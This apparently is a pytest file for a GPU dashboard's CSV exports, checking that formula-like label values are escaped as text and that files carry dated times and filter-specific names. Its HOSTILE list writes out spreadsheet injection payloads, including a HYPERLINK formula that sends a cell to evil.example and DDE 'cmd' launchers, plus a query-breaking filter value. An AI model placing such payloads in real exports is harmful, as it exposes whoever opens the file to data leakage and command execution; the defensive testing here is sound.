"""The tables' CSV downloads (:func:`gpuscope.dashboard.sections.csv_text`) against hostile
label values: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
import time
from typing import cast

import pytest

from gpuscope.dashboard import callbacks, fmt, ids, links, sections
from gpuscope.dashboard.data import DataSource
from gpuscope.dashboard.prices import bundled_prices
from gpuscope.dashboard.series import FleetData, GpuInfo, GpuRef, NodeInfo
from gpuscope.dashboard.service import DashboardService
from gpuscope.dashboard.verdicts.page import Row, State
from gpuscope.dashboard.views import FleetView, build_fleet_view
from tests.dashboard.conftest import FixedSource, make_series, make_window

#: Label values a store may hold (nothing checks a label pushed to Prometheus), each of which
#: a spreadsheet opening the CSV would take for a formula.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_label_that_reads_as_a_formula_is_written_as_text(
        value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def rows(view: FleetView, state: State, limit: int) -> tuple[list[Row], str, int]:
        # The node as the page links it (the CSV writes the link's text), the instance
        # type as a plain cell, and a negative number, which stays a number.
        return ([{"node": links.node_link(value, state), "instance_type": value,
                  "gpus": 8, "price": -1.5}], "", 1)

    monkeypatch.setitem(sections.FILLERS, ids.IDLE_NODES_TABLE, rows)
    text = sections.csv_text(cast(FleetView, None), ids.IDLE_NODES_TABLE)
    [row] = csv.DictReader(io.StringIO(text))
    for column in ("Node", "Instance type"):
        cell = row[column]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert cell == "'" + value.replace("[", "(").replace("]", ")")
    assert row["GPUs"] == "8" and row["$/hour"] == "-1.5"


def test_ordinary_names_are_written_as_they_are(monkeypatch: pytest.MonkeyPatch) -> None:
    def rows(view: FleetView, state: State, limit: int) -> tuple[list[Row], str, int]:
        return ([{"node": links.node_link("ip-10-0-1-12.ec2.internal", state),
                  "instance_type": "p5.48xlarge", "gpus": 8}], "", 1)

    monkeypatch.setitem(sections.FILLERS, ids.IDLE_NODES_TABLE, rows)
    [row] = csv.DictReader(io.StringIO(
        sections.csv_text(cast(FleetView, None), ids.IDLE_NODES_TABLE)))
    assert (row["Node"], row["Instance type"]) == ("ip-10-0-1-12.ec2.internal", "p5.48xlarge")


def test_the_csv_dates_its_times_and_its_name_says_the_window() -> None:
    """The page shows a time of today without its date ("21:34:33 UTC"); a CSV is read
    later and elsewhere, so its "since" cells carry the date (and the seconds) whatever the
    day, and its file name the window and when the window ended: the 1 h and 24 h
    downloads of a table were both ``idle-nodes-table.csv``, their $ amounts over different
    windows."""
    end = float(int(time.time()) // 60 * 60)
    ref = GpuRef("gpu-node-1", "GPU-1")
    w = make_window(3600, end=end)
    data = FleetData(
        window=w, history_start=w.start,
        gpus={ref: GpuInfo("gpu-node-1", "0", "GPU-1", "NVIDIA L4")},
        nodes={"gpu-node-1": NodeInfo("gpu-node-1", "g6.xlarge")},
        gpu_busy_max={ref: make_series([0.0] * 61, end=end)}, gpu_now={ref: 0.0},
        gpu_mean={ref: 0.0})
    view = build_fleet_view(data, bundled_prices())
    [row] = csv.DictReader(io.StringIO(sections.csv_text(view, ids.IDLE_NODES_TABLE)))
    stamp = time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime(w.start))
    assert row["Idle since (UTC)"] == f"{stamp} or earlier"
    # The page keeps its short form.
    [shown], _, _ = sections.table_rows(view, ids.IDLE_NODES_TABLE, {}, 10)
    assert shown["idle_since"] == f"{fmt.clock(w.start)} or earlier"

    service = DashboardService(cast(DataSource, FixedSource(data)), bundled_prices())
    try:
        keys = [callbacks._key(i, p) for i, p in sections.outputs()]
        callbacks.fleet_values(service, "24h", None, keys)
        out = callbacks.table_csv(service, ids.IDLE_NODES_TABLE, 1, "24h", None)
        ended = time.strftime("%Y%m%dT%H%MZ", time.gmtime(end))
        assert out["filename"] == f"{ids.IDLE_NODES_TABLE}_24h_{ended}.csv"
        # A filtered table's file says its filter (one namespace's rows, or one cluster's,
        # are not the fleet's, and two such downloads are two files); a filter that is not
        # a name is ignored by the page, and by the name.
        for namespace, cluster, part in (("ml", None, "_namespace-ml"),
                                         (None, "prod-a", "_cluster-prod-a"),
                                         (" ml ", "prod-a", "_namespace-ml_cluster-prod-a"),
                                         ('"} or', None, "")):
            callbacks.fleet_values(service, "24h", namespace, keys, cluster=cluster)
            out = callbacks.table_csv(service, ids.IDLE_NODES_TABLE, 1, "24h", namespace,
                                      cluster)
            assert out["filename"] == f"{ids.IDLE_NODES_TABLE}_24h{part}_{ended}.csv"
    finally:
        service.close()
